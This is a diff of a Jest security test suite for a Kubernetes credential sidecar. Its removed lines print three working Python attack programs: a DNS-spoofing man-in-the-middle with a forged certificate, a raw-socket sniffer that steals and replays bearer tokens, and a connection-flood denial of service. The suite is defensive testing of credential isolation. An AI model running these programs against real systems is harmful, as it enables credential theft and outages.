@@ -3,92 +3,20 @@
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import { SIDECAR_CONTAINER } from '@seks/crds';
 import { readyAgent } from '../harness/agent.ts';
+import { FLOOD, LIAR, STEAL } from '../harness/hostile-programs.ts';
 import { SYSTEM_NAMESPACE } from '../harness/install.ts';
 import { isReady, type Pod, type Target } from '../harness/kubectl.ts';
-import { AGENT_CONTAINER, agentPod, credential, IDLE, seksBinding } from '../harness/objects.ts';
+import { AGENT_CONTAINER, agentPod, IDLE } from '../harness/objects.ts';
 import { ownNamespace, type OwnNamespace } from '../harness/own-namespace.ts';
-import { sealSecret } from '../harness/sealing.ts';
+import { prepareAgent, secretOf } from '../harness/scenario.ts';
 import { clusterSuite } from '../harness/suite.ts';
 
 const APP = 'red-team';
-const SECRET = 'alice-keys';
+const SECRET = secretOf(APP);
 const NEIGHBOUR = 'neighbour';
 const RESOLVER = 'liar';
 /** a pod that is never made */
 const PROBE = 'probe';
-
-/** answers as the cluster's DNS does, but leads the provider to itself, where it presents a certificate of its own making */
-const LIAR = `
-import os, socket, ssl, struct, subprocess, threading
-real = open('/etc/resolv.conf').read().split('nameserver ')[1].split()[0]
-host = os.environ['HOST']
-subprocess.run(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', '/tmp/key', '-out', '/tmp/cert',
-  '-subj', '/CN=stub', '-addext', 'subjectAltName=DNS:' + host], check=True, capture_output=True)
-dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-dns.bind(('0.0.0.0', 53))
-def resolve():
-  while True:
-    query, client = dns.recvfrom(4096)
-    at, labels = 12, []
-    while query[at]:
-      labels.append(query[at + 1:at + 1 + query[at]].decode())
-      at += query[at] + 1
-    is_a = struct.unpack('>H', query[at + 1:at + 3])[0] == 1
-    if '.'.join(labels).lower() == host:
-      answer = query[:2] + b'\\x81\\x80' + query[4:6] + struct.pack('>HHH', is_a, 0, 0) + query[12:at + 5]
-      if is_a: answer += b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4' + socket.inet_aton(os.environ['IP'])
-      dns.sendto(answer, client)
-    else:
-      onward = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-      onward.settimeout(3)
-      try:
-        onward.sendto(query, (real, 53))
-        dns.sendto(onward.recv(4096), client)
-      except OSError: pass
-threading.Thread(target=resolve, daemon=True).start()
-tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-tls.load_cert_chain('/tmp/cert', '/tmp/key')
-listener = socket.create_server(('0.0.0.0', 443))
-open('/tmp/ready', 'w').close()
-while True:
-  plain, _ = listener.accept()
-  print('connected', flush=True)
-  try: print('received', tls.wrap_socket(plain, server_side=True).recv(65536), flush=True)
-  except OSError: print('refused', flush=True)
-`;
-
-/** waits for a token on the wire; prints the status with which the sidecar serves it, or why there is none */
-const STEAL = `
-import re, socket, urllib.request
-try: wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-except PermissionError: raise SystemExit(print('no raw socket'))
-wire.settimeout(10)
-print('listening', flush=True)
-while True:
-  found = re.search(rb'Bearer (sk-proj-seks[0-9A-Za-z]+)', wire.recv(65535))
-  if found: break
-request = urllib.request.Request('http://127.0.0.1:15080/openai/v1/models', headers={'authorization': found[0].decode()})
-print(urllib.request.urlopen(request).status)
-`;
-
-/** heads that never end, as many as the sidecar takes or can be opened in 20 s; says whether it lives */
-const FLOOD = `
-import resource, socket, time, urllib.request
-hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
-resource.setrlimit(resource.RLIMIT_NOFILE, (min(10000, hard), hard))
-head = b'GET /openai/v1/models HTTP/1.1\\r\\nHost: 127.0.0.1:15080\\r\\nX-A: ' + b'a' * 31000
-held, end = [], time.time() + 20
-while len(held) < 9000 and time.time() < end:
-  try:
-    held.append(socket.create_connection(('127.0.0.1', 15080), 5))
-    held[-1].sendall(head)
-  except ConnectionError: break
-  except OSError: pass
-try:
-  for _ in range(20): urllib.request.urlopen('http://127.0.0.1:15090/healthz', timeout=20).read()
-  print('alive')
-except OSError as error: print('gone:', error)
-`;
 
 clusterSuite('a hostile agent and a hostile author of pods', (suite) => {
   let namespace: OwnNamespace;
@@ -96,17 +24,11 @@ clusterSuite('a hostile agent and a hostile author of pods', (suite) => {
   let neighbour: Target;
 
   beforeAll(async () => {
-    const { kubectl, stub } = suite();
+    const { kubectl } = suite();
     namespace = await ownNamespace(kubectl, 'red');
-    const of = { provider: 'openai', namespace: namespace.name, secret: SECRET, key: 'openai' };
-    const secret = await sealSecret(kubectl, { ...of, plaintext: stub.keys.openai });
-    const credentials = [{ ...credential('openai', SECRET), containers: [AGENT_CONTAINER] }];
-    await kubectl.apply(
-      secret,
-      seksBinding({ name: APP, namespace: namespace.name, app: APP, credentials }),
-      liar(),
-    );
-    await kubectl.apply(author({}));
+    const ofAgentAlone = { containers: [AGENT_CONTAINER] };
+    await prepareAgent(suite(), { app: APP, namespace: namespace.name, credential: ofAgentAlone });
+    await kubectl.apply(liar(), author({}));
     agent = await readyAgent(kubectl, namespace.name, APP);
     neighbour = { ...agent, container: NEIGHBOUR };
   }, 120_000);
